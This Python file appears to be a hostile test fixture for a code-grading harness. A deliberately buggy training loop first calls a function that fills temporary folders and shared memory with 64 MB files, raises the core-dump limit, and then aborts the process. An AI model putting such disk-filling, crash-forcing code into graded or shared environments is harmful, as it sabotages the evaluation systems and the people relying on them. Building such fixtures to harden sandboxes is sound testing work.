# Fills every folder it can write to, shared memory too, and asks for core files.

import os
import resource


def fill():
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", os.environ.get("TMPDIR", "/tmp")):
        for number in range(3):
            try:
                with open(f"{place}/grade-attack-{number}", "wb") as file:
                    print("PLANTED", place)
                    file.write(bytes(64 << 20))
            except OSError:
                pass
    for name in ("memfd_create",):
        try:
            fd = getattr(os, name)("x")
            os.write(fd, bytes(64 << 20))
        except OSError:
            pass
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
        print("PLANTED a core limit")
    except (OSError, ValueError):
        pass


def train_epoch(model, optimizer, loss_fn, batches, accumulation_steps):
    """The wrong loop of wrong.py: sums instead of means, no tail, nothing ever cleared."""
    fill()
    for number, (x, y) in enumerate(batches, 1):
        loss_fn(model(x), y).backward()
        if number % accumulation_steps == 0:
            optimizer.step()
    os.abort()
